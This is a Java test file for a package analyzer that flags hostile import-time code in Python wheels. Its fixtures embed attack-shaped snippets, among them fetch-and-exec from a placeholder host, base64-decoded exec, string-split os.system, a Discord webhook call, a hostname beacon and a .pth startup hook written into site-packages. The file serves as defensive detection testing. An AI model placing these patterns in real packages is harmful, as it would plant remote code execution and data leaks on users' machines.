package dev.gatehouse.analyzer.python;

import static org.assertj.core.api.Assertions.assertThat;

import dev.gatehouse.analyzer.Analysis;
import dev.gatehouse.analyzer.AnalysisLimits;
import dev.gatehouse.analyzer.Analyzer;
import dev.gatehouse.analyzer.ArtifactKind;
import dev.gatehouse.analyzer.Capability;
import dev.gatehouse.analyzer.CodeFinding;
import dev.gatehouse.analyzer.Severity;
import dev.gatehouse.analyzer.Trigger;
import dev.gatehouse.analyzer.fixtures.WheelFixture;
import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Places that are the shape of an attack by themselves raise import-time code to HIGH, and name both
 * ends of the chain; the ordinary forms next to them (a version command, a probe, data as an argument,
 * a word joined to a word) do not.
 */
class TellingPlacesTest {
  @TempDir Path tmp;

  private final Analyzer analyzer = new Analyzer(AnalysisLimits.defaults());

  private CodeFinding importing(String init) throws IOException {
    Analysis a = analyzer.analyze(WheelFixture.named("pkg", "1.0").file("pkg/__init__.py", init).build(tmp),
        ArtifactKind.WHEEL);
    List<CodeFinding> found = a.codeFindings().stream().filter(f -> f.trigger() == Trigger.IMPORT_TIME).toList();
    assertThat(found).hasSize(1);
    return found.get(0);
  }

  @Test
  void fetchedDataRunByExecIsHighAndNamesTheFetchAndTheExec() throws IOException {
    CodeFinding f = importing("""
        import requests
        r = requests.get("https://p.example.invalid/s")
        exec(r.text)
        """);
    assertThat(f.severity()).isEqualTo(Severity.HIGH);
    assertThat(f.summary()).contains("exec of data fetched from the network (requests.get at line 2)");
    assertThat(f.evidence().location()).isEqualTo("line 3");
    assertThat(f.evidence().excerpt()).isEqualTo("exec(r.text)");
  }

  @Test
  void decodedDataRunByExecNamesTheDecoder() throws IOException {
    CodeFinding f = importing("""
        import base64
        p = base64.b64decode("cHJpbnQoMSk=")
        exec(p)
        """);
    assertThat(f.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(f.summary()).contains("base64.b64decode at line 2");
  }

  @Test
  void aNameSplitIntoPiecesIsFoldedAndReportedAsObfuscation() throws IOException {
    CodeFinding f = importing("""
        n = "sy" + "stem"
        getattr(__import__("o" + "s"), n)("id")
        """);
    assertThat(f.capabilities()).contains(Capability.PROCESS_SPAWN, Capability.OBFUSCATION);
    assertThat(f.severity()).isEqualTo(Severity.HIGH);
  }

  @Test
  void joiningWholeWordsIsNotObfuscation() throws IOException {
    CodeFinding f = importing("""
        import importlib, subprocess
        _impl = importlib.import_module("pkg." + "impl")
        subprocess.check_output(["git", "describe"])
        """);
    assertThat(f.capabilities()).containsExactly(Capability.PROCESS_SPAWN);
    assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
  }

  @Test
  void fetchedDataAsACommandArgumentIsDataNotCode() throws IOException {
    CodeFinding f = importing("""
        import json, subprocess, urllib.request
        tag = json.load(urllib.request.urlopen("https://api.example.invalid/latest"))["tag"]
        subprocess.check_call(["git", "fetch", "origin", tag])
        """);
    assertThat(f.capabilities()).containsExactly(Capability.PROCESS_SPAWN, Capability.NETWORK);
    assertThat(f.summary()).doesNotContain("fetched from the network");
  }

  @Test
  void aRegularExpressionThatLooksLikeAnAddressIsNotAnOutOfBandHost() throws IOException {
    CodeFinding f = importing("""
        import re, socket
        TOKEN = re.compile(r"[-!#$%&'*+.^_`|~0-9a-zA-Z]+")
        RANGE = "100.64.0.0/10"
        s = socket.socket()
        """);
    assertThat(f.severity()).isEqualTo(Severity.MEDIUM);
  }

  @Test
  void aRequestToAnOutOfBandHostHeldInAConstantIsHigh() throws IOException {
    CodeFinding f = importing("""
        import urllib.request
        HOOK = "https://discord.com/api/webhooks/1/abc"
        urllib.request.urlopen(HOOK)
        """);
    assertThat(f.severity()).isEqualTo(Severity.HIGH);
    assertThat(f.summary()).contains("out-of-band host", "discord.com");
  }

  @Test
  void theHostNameSentInAUrlIsABeaconButTheWorkingFolderAsADownloadTargetIsNot() throws IOException {
    assertThat(importing("""
        import socket, urllib.request
        urllib.request.urlopen("https://t.example.invalid/?h=" + socket.gethostname())
        """).capabilities()).contains(Capability.ENVIRONMENT_READ, Capability.NETWORK);
    assertThat(importing("""
        import os, urllib.request
        urllib.request.urlretrieve("https://files.example.invalid/data.csv", os.path.join(os.getcwd(), "data.csv"))
        """).capabilities()).containsExactly(Capability.NETWORK);
  }

  @Test
  void modelWeightsNamedPthAreNotAStartupHookWriteButAPthInSitePackagesIs() throws IOException {
    assertThat(importing("""
        with open("checkpoint.pth", "wb") as out:
            out.write(b"")
        """).summary()).doesNotContain("runs code later");
    assertThat(importing("""
        import site
        with open(site.getsitepackages()[0] + "/zz.pth", "w") as out:
            out.write("import pkg._agent")
        """).severity()).isEqualTo(Severity.HIGH);
  }
}
